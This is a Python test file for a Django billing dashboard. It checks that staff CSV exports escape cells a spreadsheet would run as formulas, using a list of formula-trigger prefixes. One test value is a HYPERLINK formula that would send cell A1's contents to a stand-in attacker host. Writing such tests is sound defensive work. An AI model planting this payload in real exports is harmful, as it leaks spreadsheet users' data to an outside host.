"""Staff CSV exports cannot run formulas in a spreadsheet; numbers stay numbers."""

import csv
import io

import pytest
from django.urls import reverse

from billing.models import Account
from dashboard.csv_export import neutralise
from tests.factories.accounts import StaffUserFactory
from tests.factories.billing import ChargeRecordFactory, personal_account

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("\ncmd", "'\ncmd"),
        ("  =1+1", "'  =1+1"),
        ("\ufeff=1+1", "'\ufeff=1+1"),
        ("＝1+1", "'＝1+1"),
        ("Acme = fine", "Acme = fine"),
        (-300, -300),
        (1500, 1500),
        (None, None),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_neutralised(cell, written):
    assert neutralise(cell) == written


def test_an_account_named_like_a_formula_is_exported_as_text(client):
    client.force_login(StaffUserFactory(perms=["billing.view_analytics"]))
    account = personal_account()
    Account.objects.filter(pk=account.pk).update(name=HYPERLINK)
    ChargeRecordFactory(account=account, amount_cents=300, status="pending")

    response = client.get(reverse("dashboard:staff-balances"), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    names = [cell for row in rows[1:] for cell in row if "HYPERLINK" in cell]
    assert names == ["'" + HYPERLINK]
    assert "300" in rows[1]  # the amount is still a plain number
